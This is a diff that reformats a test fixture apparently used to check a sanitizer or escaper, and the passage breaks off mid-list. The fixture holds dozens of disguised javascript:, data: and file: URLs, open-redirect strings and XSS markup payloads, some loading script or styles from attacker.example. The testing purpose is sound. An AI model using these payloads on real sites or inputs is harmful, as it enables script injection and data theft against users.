@@ -1,7 +1,22 @@
-/** Addresses that must never become one, in the disguises that are known. What could run would call `pwn`. As text, they are harmless. */
+/**
+ * Addresses that must never become one, in the disguises that are known. What could run would call `pwn`. As text, they
+ * are harmless.
+ */
 export const addresses = [
-  ...['javascript:pwn(1)', 'JaVaScRiPt:pwn(1)', ' javascript:pwn(1)', '\u0001javascript:pwn(1)', '\u00a0javascript:pwn(1)'],
-  ...['\u2028javascript:pwn(1)', '\ufeffjavascript:pwn(1)', '\u202ejavascript:pwn(1)', '\u200bjavascript:pwn(1)', 'ｊavascript:pwn(1)'],
+  ...[
+    'javascript:pwn(1)',
+    'JaVaScRiPt:pwn(1)',
+    ' javascript:pwn(1)',
+    '\u0001javascript:pwn(1)',
+    '\u00a0javascript:pwn(1)',
+  ],
+  ...[
+    '\u2028javascript:pwn(1)',
+    '\ufeffjavascript:pwn(1)',
+    '\u202ejavascript:pwn(1)',
+    '\u200bjavascript:pwn(1)',
+    'ｊavascript:pwn(1)',
+  ],
   ...[
     'java\tscript:pwn(1)',
     'java\nscript:pwn(1)',
@@ -10,11 +25,39 @@ export const addresses = [
     'javascript\t:pwn(1)',
     'javаscript:pwn(1)',
   ],
-  ...['javascript&colon;pwn(1)', 'javascript&#58;pwn(1)', 'javascript&#x3A;pwn(1)', '&#106;avascript:pwn(1)', 'java&Tab;script:pwn(1)'],
-  ...['&#0000106&#0000097&#0000118&#0000097script:pwn(1)', 'java&NewLine;script:pwn(1)', 'java&#10;script:pwn(1)', '&#1;javascript:pwn(1)'],
-  ...['javascript%3Aran(1)', '%6aavascript:pwn(1)', 'java%0ascript:pwn(1)', 'javascript\\:pwn(1)', 'java\\script:pwn(1)'],
-  ...['javascript://%0aran(1)', 'javascript:/*--></title></style><svg/onload=pwn(1)>', 'javascript:window.name', 'javascript:'],
-  ...['feed:javascript:pwn(1)', 'view-source:javascript:pwn(1)', 'jar:javascript:pwn(1)!/', 'url:javascript:pwn(1)', 'x:javascript:pwn(1)'],
+  ...[
+    'javascript&colon;pwn(1)',
+    'javascript&#58;pwn(1)',
+    'javascript&#x3A;pwn(1)',
+    '&#106;avascript:pwn(1)',
+    'java&Tab;script:pwn(1)',
+  ],
+  ...[
+    '&#0000106&#0000097&#0000118&#0000097script:pwn(1)',
+    'java&NewLine;script:pwn(1)',
+    'java&#10;script:pwn(1)',
+    '&#1;javascript:pwn(1)',
+  ],
+  ...[
+    'javascript%3Aran(1)',
+    '%6aavascript:pwn(1)',
+    'java%0ascript:pwn(1)',
+    'javascript\\:pwn(1)',
+    'java\\script:pwn(1)',
+  ],
+  ...[
+    'javascript://%0aran(1)',
+    'javascript:/*--></title></style><svg/onload=pwn(1)>',
+    'javascript:window.name',
+    'javascript:',
+  ],
+  ...[
+    'feed:javascript:pwn(1)',
+    'view-source:javascript:pwn(1)',
+    'jar:javascript:pwn(1)!/',
+    'url:javascript:pwn(1)',
+    'x:javascript:pwn(1)',
+  ],
   ...[
     'vbscript:pwn(1)',
     'VBSCRIPT:pwn(1)',
@@ -25,7 +68,11 @@ export const addresses = [
     'data:image/png;base64,AA==',
   ],
   ...['data:text/html,<script>pwn(1)</script>', 'data:text/html;base64,PHNjcmlwdD5wd24oMSk8L3NjcmlwdD4='],
-  ...['data:image/svg+xml,<svg xmlns="http://www.w3.org/2000/svg" onload="pwn(1)"/>', 'blob:https://attacker.example/1', 'blob:null/1'],
+  ...[
+    'data:image/svg+xml,<svg xmlns="http://www.w3.org/2000/svg" onload="pwn(1)"/>',
+    'blob:https://attacker.example/1',
+    'blob:null/1',
+  ],
   ...[
     'file:///etc/passwd',
     'file://attacker.example/x',
@@ -33,7 +80,15 @@ export const addresses = [
     'ftp://attacker.example/',
     'ws://attacker.example/',
   ],
-  ...['intent://scan/#Intent;scheme=zxing;end', 'ms-msdt:/id', 'chrome://settings', 'about:blank', 'about:srcdoc', 'cid:1', 'sms:+1'],
+  ...[
+    'intent://scan/#Intent;scheme=zxing;end',
+    'ms-msdt:/id',
+    'chrome://settings',
+    'about:blank',
+    'about:srcdoc',
+    'cid:1',
+    'sms:+1',
+  ],
   ...[
     '//attacker.example/x',
     '\\\\attacker.example\\x',
@@ -42,7 +97,13 @@ export const addresses = [
     '/\t/attacker.example',
     '/\n\\attacker.example',
   ],
-  ...['&#47;/attacker.example', '&sol;&sol;attacker.example', '\u2215/attacker.example', ' //attacker.example', '///attacker.example'],
+  ...[
+    '&#47;/attacker.example',
+    '&sol;&sol;attacker.example',
+    '\u2215/attacker.example',
+    ' //attacker.example',
+    '///attacker.example',
+  ],
   ...[
     'https:javascript:pwn(1)',
     'https:attacker.example',
@@ -61,47 +122,92 @@ export const addresses = [
     'https://[javascript:pwn(1)]/',
     'https://%00/',
   ],
-  ...[`https://attacker.example/${'a'.repeat(20_000)}`, `javascript:${'/**/'.repeat(3000)}pwn(1)`, `${'//'.repeat(2000)}attacker.example`],
+  ...[
+    `https://attacker.example/${'a'.repeat(20_000)}`,
+    `javascript:${'/**/'.repeat(3000)}pwn(1)`,
+    `${'//'.repeat(2000)}attacker.example`,
+  ],
 ]
 
 /** Markup, attributes and templates that must stay the words they are. */
 export const markups = [
-  ...['<script>pwn(1)</script>', '<ScRiPt src=//attacker.example/x.js></sCrIpT>', '"><script>pwn(1)</script>', "'><script>pwn(1)</script>"],
+  ...[
+    '<script>pwn(1)</script>',
+    '<ScRiPt src=//attacker.example/x.js></sCrIpT>',
+    '"><script>pwn(1)</script>',
+    "'><script>pwn(1)</script>",
+  ],
   ...[
     '</textarea><script>pwn(1)</script>',
     '</title><script>pwn(1)</script>',
     '</style><script>pwn(1)</script>',
     '</select><script>pwn(1)</script>',
   ],
-  ...[']]><script>pwn(1)</script>', '--><script>pwn(1)</script>', '<!--><script>pwn(1)</script>', '<![CDATA[<script>pwn(1)</script>]]>'],
+  ...[
+    ']]><script>pwn(1)</script>',
+    '--><script>pwn(1)</script>',
+    '<!--><script>pwn(1)</script>',
+    '<![CDATA[<script>pwn(1)</script>]]>',
+  ],
   ...[
     '<img src=x onerror=pwn(1)>',
     '<img srcset="https://attacker.example/a 1x" src=x>',
     '<image href=x onerror=pwn(1)>',
     '<svg onload=pwn(1)>',
   ],
-  ...['<svg><animate onbegin=pwn(1) attributeName=x dur=1s>', '<svg><use href="data:image/svg+xml,<svg id=x onload=pwn(1)/>#x"/>'],
-  ...['<math><mtext><table><mglyph><style><img src=x onerror=pwn(1)>', '<svg></p><style><a title="</style><img src=x onerror=pwn(1)>">'],
-  ...['<iframe src="javascript:pwn(1)"></iframe>', '<iframe srcdoc="<script>pwn(1)</script>">', '<object data="javascript:pwn(1)">'],
+  ...[
+    '<svg><animate onbegin=pwn(1) attributeName=x dur=1s>',
+    '<svg><use href="data:image/svg+xml,<svg id=x onload=pwn(1)/>#x"/>',
+  ],
+  ...[
+    '<math><mtext><table><mglyph><style><img src=x onerror=pwn(1)>',
+    '<svg></p><style><a title="</style><img src=x onerror=pwn(1)>">',
+  ],
+  ...[
+    '<iframe src="javascript:pwn(1)"></iframe>',
+    '<iframe srcdoc="<script>pwn(1)</script>">',
+    '<object data="javascript:pwn(1)">',
+  ],
   ...[
     '<embed src="javascript:pwn(1)">',
     '<base href="https://attacker.example/">',
     '<link rel=stylesheet href=https://attacker.example/x.css>',
   ],
-  ...['<meta http-equiv=refresh content="0;url=javascript:pwn(1)">', '<form action="javascript:pwn(1)"><input type=submit>'],
+  ...[
+    '<meta http-equiv=refresh content="0;url=javascript:pwn(1)">',
+    '<form action="javascript:pwn(1)"><input type=submit>',
+  ],
   ...[
     '<button formaction="javascript:pwn(1)">x</button>',
     '<a href="javascript:pwn(1)">x</a>',
     '<a ping="https://attacker.example/" href="/">x</a>',
   ],
-  ...['<details open ontoggle=pwn(1)>', '<body onload=pwn(1)>', '<input autofocus onfocus=pwn(1)>', '<video src=x onerror=pwn(1)>'],
+  ...[
+    '<details open ontoggle=pwn(1)>',
+    '<body onload=pwn(1)>',
+    '<input autofocus onfocus=pwn(1)>',
+    '<video src=x onerror=pwn(1)>',
+  ],
   ...[
     '<p style="position:fixed;inset:0;background:url(https://attacker.example/)">x',
     '<style>@import "https://attacker.example/x.css"</style>',
   ],
-  ...['<template shadowrootmode=open><script>pwn(1)</script></template>', '<noscript><p title="</noscript><img src=x onerror=pwn(1)>">'],
-  ...['<div id=lessons name=lessons class=pk-root>', '<br onclick=pwn(1)>', '<sub onclick=pwn(1)>x</sub>', '<kbd style=color:red>x</kbd>'],
-  ...['<sup class=pwn id=pwn name=pwn>x</sup>', '<br/onload=pwn(1)>', '<KBD\nonclick=pwn(1)>x</KBD>', '<sub\0onclick=pwn(1)>x</sub>'],
+  ...[
+    '<template shadowrootmode=open><script>pwn(1)</script></template>',
+    '<noscript><p title="</noscript><img src=x onerror=pwn(1)>">',
+  ],
+  ...[
+    '<div id=lessons name=lessons class=pk-root>',
+    '<br onclick=pwn(1)>',
+    '<sub onclick=pwn(1)>x</sub>',
+    '<kbd style=color:red>x</kbd>',
+  ],
+  ...[
+    '<sup class=pwn id=pwn name=pwn>x</sup>',
+    '<br/onload=pwn(1)>',
+    '<KBD\nonclick=pwn(1)>x</KBD>',
+    '<sub\0onclick=pwn(1)>x</sub>',
+  ],
   ...[
     '" onmouseover="pwn(1)',
     "' onfocus='pwn(1)' autofocus='",
